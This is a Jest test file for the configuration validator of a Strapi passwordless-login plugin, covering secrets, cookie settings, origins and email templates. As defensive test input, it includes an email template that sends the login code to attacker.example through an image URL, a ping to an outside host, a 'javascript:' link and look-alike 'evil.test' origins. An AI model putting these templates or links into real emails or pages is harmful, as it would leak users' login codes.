import { resolvePasswordlessConfig } from '../../packages/strapi-passwordless-login/src/server/config/resolve-config';
import { DEFAULT_CONFIG } from '../../packages/strapi-passwordless-login/src/server/config/defaults';
import type { PasswordlessUserConfig } from '../../packages/strapi-passwordless-login/src/server/config/types';
import fs from 'node:fs';
import path from 'node:path';
import dotenv from 'dotenv';

const dev = { isProduction: false };
const prod = { isProduction: true };
// 32 characters, as `openssl rand -base64 24` gives: strong enough for production.
const SECRET = 'Zq3v9KpX2mWf7LtR8bNc4HyJ6dGs1AeU';

describe('resolvePasswordlessConfig', () => {
  it('fills every default', () => {
    expect(resolvePasswordlessConfig(undefined, dev)).toEqual(DEFAULT_CONFIG);
  });

  it('merges nested values and ignores keys left undefined by env()', () => {
    const config = resolvePasswordlessConfig(
      { code: { length: 8 }, limits: { ipVerify: { points: 3 } }, email: { from: undefined, subject: 'Hi' } },
      dev
    );
    expect(config.code).toEqual({ ...DEFAULT_CONFIG.code, length: 8 });
    expect(config.limits.ipVerify).toEqual({ points: 3, durationSeconds: 900 });
    expect(config.email.subject).toBe('Hi');
    expect(config.email.text).toBe(DEFAULT_CONFIG.email.text);
  });

  it('treats an empty string (X= in .env) as unset', () => {
    expect(resolvePasswordlessConfig({ secret: '', email: { from: '' } }, dev).secret).toBeUndefined();
    expect(() => resolvePasswordlessConfig({ secret: '' }, prod)).toThrow('passwordless.secret: required in production');
  });

  it.each([
    [{ code: { length: 5 } }, 'users-permissions.config.passwordless.code.length'],
    [{ code: { length: 11 } }, 'users-permissions.config.passwordless.code.length'],
    [{ code: { length: '6' } }, 'users-permissions.config.passwordless.code.length'],
    [{ code: { ttlSeconds: 0 } }, 'users-permissions.config.passwordless.code.ttlSeconds'],
    [{ code: { maxAttempt: 5 } }, 'users-permissions.config.passwordless.code'],
    [{ limits: { ipRequest: { points: 0 } } }, 'users-permissions.config.passwordless.limits.ipRequest.points'],
    [{ limits: { failureBudget: -1 } }, 'users-permissions.config.passwordless.limits.failureBudget'],
    [{ email: { delivery: 'smtp' } }, 'users-permissions.config.passwordless.email.delivery'],
    [{ email: { text: 'Code <%= PASSWORD %>' } }, 'users-permissions.config.passwordless.email.text'],
    [{ email: { html: '<% eval() %>' } }, 'users-permissions.config.passwordless.email.html'],
    [{ secret: 'too-short' }, 'users-permissions.config.passwordless.secret'],
    [{ grantPublic: 'yes' }, 'users-permissions.config.passwordless.grantPublic'],
    [{ access: { allow: ['example.com'] } }, 'users-permissions.config.passwordless.access.allow'],
    [{ cleanup: { intervalMinutes: 0 } }, 'users-permissions.config.passwordless.cleanup.intervalMinutes'],
    [{ redis: { url: 'http://cache:6379' } }, 'users-permissions.config.passwordless.redis.url'],
    [{ cookie: { enabled: true } }, 'users-permissions.config.passwordless.cookie.origins'],
    [{ cookie: { enabled: true, origins: ['https://shop.test/path'] } }, 'users-permissions.config.passwordless.cookie.origins'],
    // A Secure cookie is named __Host-<name>, which browsers take only with Path=/ and no Domain.
    [{ cookie: { secure: true, domain: 'shop.test' } }, 'users-permissions.config.passwordless.cookie.domain'],
    [{ cookie: { secure: true, path: '/api' } }, 'users-permissions.config.passwordless.cookie.path'],
    [{ email: { locales: { fr: { text: '<%= MOT_DE_PASSE %>' } } } }, 'users-permissions.config.passwordless.email.locales'],
    [{ email: { locales: { 'not a tag': { text: 'x' } } } }, 'users-permissions.config.passwordless.email.locales'],
    [{ email: { locales: { fr: { body: 'x' } } } }, 'users-permissions.config.passwordless.email.locales'],
    [{ email: { startJitterMs: -1 } }, 'users-permissions.config.passwordless.email.startJitterMs'],
    [{ email: { startJitterMs: 5001 } }, 'users-permissions.config.passwordless.email.startJitterMs'],
    [{ typo: true }, 'users-permissions.config.passwordless'],
  ])('refuses %j naming %s', (user, key) => {
    expect(() => resolvePasswordlessConfig(user as never, dev)).toThrow(`Invalid ${key}`);
  });

  it('refuses <%= URL %> in a template when no linkUrl is set, and accepts it with one', () => {
    expect(() => resolvePasswordlessConfig({ email: { text: 'Go: <%= URL %>' } }, dev)).toThrow(
      'Invalid users-permissions.config.passwordless.email.text: it uses <%= URL %>'
    );
    const config = resolvePasswordlessConfig({ linkUrl: 'https://shop.test/auth/link' }, dev);
    expect(config.email.text).toContain('<%= URL %>');
    expect(config.email.html).toContain('href="<%= URL %>"');
    expect(resolvePasswordlessConfig({}, dev).email.text).not.toContain('URL');
  });

  it('refuses <%= URL %> in a locale template without linkUrl, naming it', () => {
    expect(() => resolvePasswordlessConfig({ email: { locales: { fr: { html: '<a href="<%= URL %>">' } } } }, dev)).toThrow(
      'Invalid users-permissions.config.passwordless.email.locales.fr.html: it uses <%= URL %>'
    );
  });

  // Issue 18: config templates pass the same markup checker as the admin's, at boot.
  it.each([
    [{ email: { html: '<img src="https://attacker.example/?c=<%= CODE %>">' } }, 'email.html', 'inside a tag'],
    [{ linkUrl: 'https://shop.test/l', email: { locked: { html: '<a href="<%= URL %>" ping="https://a.example">x</a>' } } }, 'email.locked.html', 'ping'],
    [{ email: { locales: { fr: { html: '<style><%= CODE %></style>' } } } }, 'email.locales.fr.html', 'inside <style>'],
  ])('refuses a config template whose placeholder a mail client would send away: %j', (user, key, reason) => {
    expect(() => resolvePasswordlessConfig(user as never, dev)).toThrow(new RegExp(`Invalid users-permissions\\.config\\.passwordless\\.${key.replace(/\./g, '\\.')}: it has .*${reason}`));
  });

  it.each(['shop.test/link', 'javascript:alert(1)', 'https://shop.test/link?x=1', 'https://shop.test/#x'])(
    'refuses linkUrl %j',
    (linkUrl) => {
      expect(() => resolvePasswordlessConfig({ linkUrl }, dev)).toThrow('Invalid users-permissions.config.passwordless.linkUrl');
    }
  );

  it('makes the cookie secure by default in production only', () => {
    expect(resolvePasswordlessConfig({}, dev).cookie.secure).toBe(false);
    expect(resolvePasswordlessConfig({ secret: SECRET }, prod).cookie.secure).toBe(true);
  });

  it('refuses a Domain on the production (Secure, __Host-) cookie, naming the fix', () => {
    expect(() => resolvePasswordlessConfig({ secret: SECRET, cookie: { domain: 'example.com' } }, prod)).toThrow(
      /cookie\.domain: .*__Host-.*Remove cookie\.domain/
    );
    expect(resolvePasswordlessConfig({ cookie: { secure: false, domain: 'example.com', path: '/api' } }, dev).cookie).toMatchObject({
      domain: 'example.com',
      path: '/api',
    });
  });

  it('requires a secret in production', () => {
    expect(() => resolvePasswordlessConfig({}, prod)).toThrow('Invalid users-permissions.config.passwordless.secret');
    expect(resolvePasswordlessConfig({ secret: SECRET }, prod).secret).toBe(SECRET);
  });

  it('refuses log delivery in production: it would write codes to the log', () => {
    expect(() => resolvePasswordlessConfig({ secret: SECRET, email: { delivery: 'log' } }, prod)).toThrow(
      'Invalid users-permissions.config.passwordless.email.delivery'
    );
  });
});

// Issue 10, item 9: settings that are fine on a laptop and weak on the internet.
describe('resolvePasswordlessConfig in production', () => {
  const cookie = (extra: object): PasswordlessUserConfig =>
    ({ cookie: { enabled: true, origins: ['https://shop.test'], ...extra } }) as PasswordlessUserConfig;
  const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  // "Invalid <key>: <what is wrong>. <fix>"
  const refusal = (key: string) => new RegExp(`^Invalid ${escape(`users-permissions.config.passwordless.${key}`)}: .+\\. [A-Z]`);

  const weak: Array<[string, string, PasswordlessUserConfig]> = [
    ['a secret of one character repeated', 'secret', { secret: 'a'.repeat(48) }],
    ['a secret of fewer than 8 distinct characters', 'secret', { secret: 'deadbeefdeadbeefcafebabe00000000' }],
    ['a secret that is a short pattern repeated', 'secret', { secret: '0123456789'.repeat(4) }],
    ['a secret that is a pattern repeated and cut short', 'secret', { secret: 'correct-horse-'.repeat(3).slice(0, 40) }],
    ['sameSite "none" without secure', 'cookie.secure', cookie({ sameSite: 'none', secure: false })],
    ['a plain http origin', 'cookie.origins', cookie({ origins: ['https://shop.test', 'http://shop.test'] })],
    ['a plain http origin with a port', 'cookie.origins', cookie({ origins: ['http://shop.test:8080'] })],
    ['an http origin that only starts like localhost', 'cookie.origins', cookie({ origins: ['http://localhost.evil.test'] })],
    ['an http origin that only starts like 127.0.0.1', 'cookie.origins', cookie({ origins: ['http://127.0.0.1.evil.test:80'] })],
  ];

  it.each(weak)('refuses %s, naming %s and the fix', (_label, key, user) => {
    expect(() => resolvePasswordlessConfig({ secret: SECRET, ...user }, prod)).toThrow(refusal(key));
  });

  it.each(weak)('allows %s outside production', (_label, _key, user) => {
    expect(() => resolvePasswordlessConfig({ secret: SECRET, ...user }, dev)).not.toThrow();
  });

  it('refuses a secret shorter than 32 characters, in every environment, with the fix', () => {
    const secret = 'Zq3v9KpX2mWf7LtR8bNc4HyJ6dGs1Ae';
    expect(() => resolvePasswordlessConfig({ secret }, prod)).toThrow(refusal('secret'));
    expect(() => resolvePasswordlessConfig({ secret }, dev)).toThrow(refusal('secret'));
  });

  // Whatever .env.example ships is public. Read here (never at runtime), so that a
  // placeholder put there later is refused too.
  it("refuses .env.example's PASSWORDLESS_SECRET", () => {
    const shipped = dotenv.parse(fs.readFileSync(path.join(__dirname, '../../.env.example'))).PASSWORDLESS_SECRET;
    expect(() => resolvePasswordlessConfig({ secret: shipped }, prod)).toThrow(refusal('secret'));
  });

  it.each([
    ['a hex secret (openssl rand -hex 16)', { secret: '3f9a0c27e4b1d85f6a2c9e0b7d41f358' }],
    ['a base64 secret (openssl rand -base64 48)', { secret: 'q0Jv1z8m3Xr4wYb6KpT9sLcN2hDf5GaE7uVi+oQe/RkSjWx0tMyHnB3lZ4dFg8Ca' }],
    ['http://localhost', cookie({ origins: ['http://localhost'] })],
    ['http://localhost with a port', cookie({ origins: ['http://localhost:3000'] })],
    ['http://127.0.0.1 with a port', cookie({ origins: ['http://127.0.0.1:8080'] })],
    ['http://[::1] with a port', cookie({ origins: ['http://[::1]:5173'] })],
    ['sameSite "none" with secure', cookie({ sameSite: 'none', secure: true })],
    ['sameSite "none" with secure left to its production default', cookie({ sameSite: 'none' })],
    ['an http origin while the cookie is off (origins are unused then)', { cookie: { enabled: false, origins: ['http://shop.test'] } }],
  ])('allows %s', (_label, user) => {
    expect(() => resolvePasswordlessConfig({ secret: SECRET, ...(user as PasswordlessUserConfig) }, prod)).not.toThrow();
  });
});
